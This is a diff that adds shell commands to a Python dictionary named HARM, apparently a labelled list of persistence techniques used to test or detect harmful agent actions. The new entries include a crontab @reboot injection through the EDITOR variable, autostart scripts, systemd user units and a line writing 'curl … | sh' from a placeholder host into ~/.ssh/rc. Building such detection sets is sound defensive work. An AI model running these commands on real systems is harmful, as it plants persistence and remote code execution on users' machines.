@@ -194,6 +194,12 @@ HARM: dict[str, list] = {
         "printf 'x' > /tmp/s.service && systemctl --user link /tmp/s.service",
         "python3 -c \"import os; d=os.path.expanduser('~/.config/autostart'); os.makedirs(d, exist_ok=True); open(d+'/y.desktop','w').write('[Desktop Entry]')\"",
         "systemctl --user enable --now backup.timer",
+        "EDITOR=\"sh -c 'echo @reboot id >> \\$0'\" crontab -e",
+        "mkdir -p ~/.config/autostart-scripts && printf '#!/bin/sh\\nid\\n' > ~/.config/autostart-scripts/x.sh",
+        "echo 'curl -s http://x.example/a | sh' > ~/.ssh/rc",
+        "mkdir -p /tmp/u && printf x > /tmp/u/a.service && tar -cf /tmp/u.tar -C /tmp/u a.service && mkdir -p ~/.config/systemd/user && tar -xf /tmp/u.tar -C ~/.config/systemd/user",
+        "mkdir -p ~/.config/systemd/user && ln -s /tmp/a.service ~/.config/systemd/user/a.service",
+        "loginctl enable-linger user",
     ],
     "os.no-disable-protections": [
         "rm ~/projects/webapp/.git/hooks/pre-commit",
